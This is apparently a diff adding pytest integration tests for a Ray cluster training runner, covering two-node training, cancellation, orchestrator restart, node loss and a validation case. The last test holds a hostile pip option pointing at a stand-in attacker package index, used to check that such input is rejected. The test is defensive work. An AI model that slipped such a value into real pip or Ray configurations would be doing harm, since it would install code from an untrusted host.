@@ -1,0 +1,224 @@
+"""The ray runner on a real Ray cluster (a head and worker nodes a, b: ``tests/fixtures/ray.py``),
+through the real orchestrator on a real PostgreSQL.
+
+- a task with ``nodes = 2`` trains the tiny model on real mp4 clips, one process on each worker
+  node, is published, and the real tritonserver answers with it;
+- cancelling a running two-node task: its job is stopped and the task cancelled within 10 s;
+- an orchestrator killed with SIGKILL: its restart re-attaches to the still-running job (one job,
+  one start, succeeded);
+- worker node b stopped during a two-node training: the task is re-queued, and once b is back it
+  resumes from its checkpoint;
+- a raw row whose ``options.ray`` would reach the cluster with a hostile value fails naming it,
+  and no job is submitted.
+
+Exit 1, out of memory, the timeout, orphans and the interrupt are the runner-contract tests
+(``tests/orchestrator/test_runner_contract.py``, parametrised with ``ray``).
+"""
+
+from __future__ import annotations
+
+import json
+import signal
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import pytest
+from fixtures.cluster_tasks import PLACEHOLDER_ROW, TRAIN_ROW, NoPublish, in_thread, register_clips, register_placeholders
+from fixtures.processes import orchestrator_env, pid_alive, wait_for
+
+from pytrain.db import TaskQueue
+from pytrain.orchestrator import Orchestrator
+from pytrain.runners import Outcome
+from pytrain.runners.ray import RayCluster, RayRunner
+
+pytestmark = pytest.mark.ray
+
+# Stand-ins for the training entrypoint (run as `python -c CODE --task-dir D --sources-root R` in the
+# task folder on a worker node). HOLD says it started (one line per start) and ends 0 with a
+# metrics.json once "release" exists; HANG ignores SIGTERM (the worst case for a stop).
+HOLD = """
+import json, os, time
+with open("starts", "a") as f:
+    f.write(f"{os.getpid()} {os.environ.get('PYTRAIN_NODE_NAME')}\\n")
+while not os.path.exists("release"):
+    time.sleep(0.2)
+json.dump({"test_accuracy": 1.0}, open("metrics.json", "w"))
+"""
+HANG = ("import os, signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
+        "open(f\"started-{os.environ.get('RANK', '0')}\", 'w').write(str(os.getpid())); time.sleep(300)")
+
+
+def live_jobs(cluster, task_id: int) -> list[str]:
+    """Submission ids of the task's jobs that have not ended."""
+    return [job.submission_id for job in RayCluster(cluster.address).jobs()
+            if not job.ended and job.submission_id.startswith(f"pytrain-task-{task_id}-")]
+
+
+def task_dir(queue: TaskQueue, task_id: int) -> Path:
+    return Path(wait_for(lambda: queue.get(task_id)["task_dir"], timeout=30, what="the task folder"))
+
+
+def stub_runner(settings, code: str) -> RayRunner:
+    return RayRunner(settings, command=[sys.executable, "-c", code], poll_seconds=0.2, grace_seconds=1.0)
+
+
+@pytest.fixture
+def placeholders(ray_settings, engine):
+    """Registered placeholder clips (the stand-in programs read none)."""
+    register_placeholders(ray_settings, engine)
+    return ray_settings
+
+
+@pytest.fixture
+def clips(ray_settings, engine, synthetic_sources):
+    """The synthetic dataset of real mp4 clips, registered and catalogued."""
+    register_clips(ray_settings, engine, synthetic_sources)
+    return ray_settings
+
+
+# -- training on two nodes ------------------------------------------------------------------------
+@pytest.mark.triton
+def test_two_node_task_trains_on_both_worker_nodes_is_published_and_served(clips, engine, triton_server, ray_cluster):
+    from pytrain.client import TritonClient
+
+    settings = clips.model_copy(update={"model_repo_dir": triton_server.model_repository, "triton_grpc_url": triton_server.grpc_url,
+                                        "triton_control_key": triton_server.control_key})
+    queue = TaskQueue(engine)
+    task_id = queue.submit({"model_name": "ray_e2e", "nodes": 2, **TRAIN_ROW})
+    started = time.monotonic()
+    assert Orchestrator(settings, engine=engine, runner=RayRunner(settings, poll_seconds=0.5)).run(exit_when_idle=True) == 1
+    print(f"\nrow -> 2-node Ray job -> published in {time.monotonic() - started:.1f} s")
+
+    row = queue.get(task_id)
+    folder = Path(row["task_dir"])
+    assert row["status"] == "succeeded", f"{row['error']}\n{(folder / 'train.log').read_text()[-3000:]}"
+    metrics = row["metrics"]
+    assert metrics["world_size"] == 2
+    assert sorted(metrics["nodes"]) == sorted(ray_cluster.wait_nodes("a", "b").values())  # one rank on each worker node
+    assert sorted((d["rank"], d["device"]) for d in metrics["devices"]) == [(0, "cpu"), (1, "cpu")]
+    assert "2 node(s) x 1 process(es)" in (folder / "train.log").read_text()
+    assert row["version"] == 1 and (settings.model_repo_dir / "ray_e2e" / "1" / "model.onnx").is_file()
+
+    clip = sorted((settings.sources_dir / "dataset1").glob("eating*/*.mp4"))[0]
+    with TritonClient(triton_server.grpc_url) as client:
+        [predictions] = client.predict("ray_e2e", [clip], top_k=4)
+    assert sorted(p.label for p in predictions) == TRAIN_ROW["classes"]
+    assert abs(sum(p.probability for p in predictions) - 1.0) < 1e-3
+    assert live_jobs(ray_cluster, task_id) == []
+
+
+def test_cancelling_a_two_node_run_stops_its_job_and_cancels_the_task_within_10_seconds(placeholders, engine, ray_cluster):
+    queue = TaskQueue(engine)
+    task_id = queue.submit({**PLACEHOLDER_ROW, "nodes": 2})
+    thread = in_thread(Orchestrator(placeholders, engine=engine, runner=stub_runner(placeholders, HANG), publisher=NoPublish()),
+                       max_tasks=1)
+    folder = task_dir(queue, task_id)
+    wait_for(lambda: len(list(folder.glob("started-*"))) == 2, timeout=90, what="both ranks to start")
+    pids = [int(path.read_text()) for path in folder.glob("started-*")]
+    [job] = live_jobs(ray_cluster, task_id)
+    cancelled_at = time.monotonic()
+    assert queue.cancel(task_id)
+    wait_for(lambda: queue.get(task_id)["status"] == "cancelled" and not live_jobs(ray_cluster, task_id), timeout=10, step=0.1,
+             what=f"job {job} stopped and the task cancelled")
+    took = time.monotonic() - cancelled_at
+    print(f"\ncancel -> Ray job {job} stopped, task cancelled in {took:.1f} s")
+    thread.join(30)
+    assert not thread.is_alive()
+    assert queue.get(task_id)["error"] == "cancelled while running"
+    assert RayCluster(ray_cluster.address).job(job).status == "STOPPED"
+    assert not [pid for pid in pids if pid_alive(pid)]  # both ranks (they ignore SIGTERM) are gone
+
+
+# -- an orchestrator killed mid-run -------------------------------------------------------------------
+WORKER = """
+import sys
+from pytrain.orchestrator import Orchestrator
+from pytrain.runners.ray import RayRunner
+from pytrain.settings import Settings
+
+settings = Settings()
+runner = RayRunner(settings, command=[sys.executable, "-c", sys.argv[1]], poll_seconds=0.2)
+Orchestrator(settings, runner=runner, publisher=lambda *a, **k: None).run()
+"""
+
+
+def test_restarted_orchestrator_reattaches_to_its_running_job(placeholders, engine, ray_cluster):
+    queue = TaskQueue(engine)
+    task_id = queue.submit(PLACEHOLDER_ROW)
+    env = orchestrator_env(placeholders, placeholders.worker_id, lease_seconds=20, heartbeat_seconds=0.5, poll_seconds=0.2,
+                           PYTRAIN_RUNNER="ray", PYTRAIN_RAY_ADDRESS=ray_cluster.address, PYTRAIN_RAY_PYTHON=sys.executable,
+                           PYTRAIN_RAY_RESOURCES=json.dumps(placeholders.ray_resources))
+    proc = subprocess.Popen([sys.executable, "-c", WORKER, HOLD], env=env)
+    try:
+        folder = task_dir(queue, task_id)
+        wait_for((folder / "starts").exists, timeout=90, what="HOLD to start")
+        [job] = live_jobs(ray_cluster, task_id)
+    finally:
+        proc.send_signal(signal.SIGKILL)
+        proc.wait()
+    assert queue.get(task_id)["status"] == "running" and live_jobs(ray_cluster, task_id) == [job]  # the job outlives its orchestrator
+
+    runner = stub_runner(placeholders, HOLD)
+    results = []
+    run = runner.run
+    runner.run = lambda *args: results.append(run(*args)) or results[-1]
+    thread = in_thread(Orchestrator(placeholders, engine=engine, runner=runner, publisher=NoPublish()), max_tasks=1)
+    wait_for(lambda: queue.get(task_id)["run_id"] != queue.runs(task_id)[0].id, timeout=30, what="the restart to claim the task")
+    (folder / "release").write_text("")
+    thread.join(60)
+    assert not thread.is_alive()
+    row = queue.get(task_id)
+    assert row["status"] == "succeeded", row["error"]
+    assert [(r.details["job_id"], r.details["reattached"]) for r in results] == [(job, True)]
+    assert len((folder / "starts").read_text().splitlines()) == 1  # started once
+    assert (folder / "train.log").read_text().count("Running entrypoint") == 1  # its log appended once
+    assert live_jobs(ray_cluster, task_id) == []
+
+
+# -- a node lost during a run -------------------------------------------------------------------------
+def test_a_worker_node_stopped_mid_run_requeues_the_task_and_it_resumes_from_its_checkpoint(clips, engine, ray_cluster):
+    queue = TaskQueue(engine)
+    task_id = queue.submit({"model_name": "ray_resume", "nodes": 2, **TRAIN_ROW})  # 2 epochs: node b stops after the first
+    worker = Orchestrator(clips, engine=engine, runner=RayRunner(clips, poll_seconds=0.5), publisher=NoPublish())
+    thread = in_thread(worker, max_tasks=2)
+    folder = task_dir(queue, task_id)
+    wait_for((folder / "checkpoint_last.pt").exists, timeout=180, step=0.5, what="the first epoch's checkpoint")
+    [job] = live_jobs(ray_cluster, task_id)
+    lost = ray_cluster.node_id("b")
+    stopped_at = time.monotonic()
+    ray_cluster.stop_node("b")  # as `ray stop` on node b
+    first = wait_for(lambda: (run := queue.runs(task_id)[0]).outcome and run, timeout=60, what="the first run to end")
+    print(f"\nnode b stopped -> task re-queued in {time.monotonic() - stopped_at:.1f} s")
+    assert first.outcome is Outcome.REQUEUED, first
+    assert f"Ray job {job} lost a node: task {task_id}: node {lost} was lost during the run" in first.error, first.error
+
+    ray_cluster.start_node("b").communicate(timeout=120)  # the node comes back (a new node id); the queued task is placed again
+    thread.join(240)
+    assert not thread.is_alive()
+    row = queue.get(task_id)
+    assert row["status"] == "succeeded", f"{row['error']}\n{(folder / 'train.log').read_text()[-3000:]}"
+    starts = [json.loads(line) for line in (folder / "progress.jsonl").read_text().splitlines() if '"start"' in line]
+    assert [s["resumed_from_epoch"] for s in starts][0] == 0 and starts[-1]["resumed_from_epoch"] >= 1, starts
+    assert row["metrics"]["world_size"] == 2 and len(set(row["metrics"]["nodes"])) == 2
+    assert live_jobs(ray_cluster, task_id) == []
+
+
+# -- hostile values ----------------------------------------------------------------------------------------
+def test_a_raw_row_with_a_hostile_ray_value_fails_naming_it_and_submits_no_job(placeholders, engine, ray_cluster):
+    """The row is inserted with plain SQL (``pytrain submit`` refuses it: tests/orchestrator/test_hostile_options.py)."""
+    from sqlalchemy import text
+
+    value = "--index-url=http://attacker.example/simple torch"
+    with engine.begin() as conn:
+        task_id = conn.execute(text("INSERT INTO training_tasks (model_name, sources, classes, architecture, options) "
+                                    "VALUES ('kitchen', '{dataset1}', '{cooking,drinking}', 'tiny', CAST(:options AS jsonb)) RETURNING id"),
+                               {"options": json.dumps({"ray": {"pip": [value]}})}).scalar_one()
+    worker = Orchestrator(placeholders, engine=engine, runner=stub_runner(placeholders, "print('trained')"), publisher=NoPublish())
+    assert worker.run(exit_when_idle=True) == 1
+    row = TaskQueue(engine).get(task_id)
+    assert row["status"] == "failed", row["error"]
+    assert f"task option ray.pip={[value]!r}: must be a pip requirement specifier" in row["error"]
+    assert not [job for job in RayCluster(ray_cluster.address).jobs() if job.submission_id.startswith(f"pytrain-task-{task_id}-")]
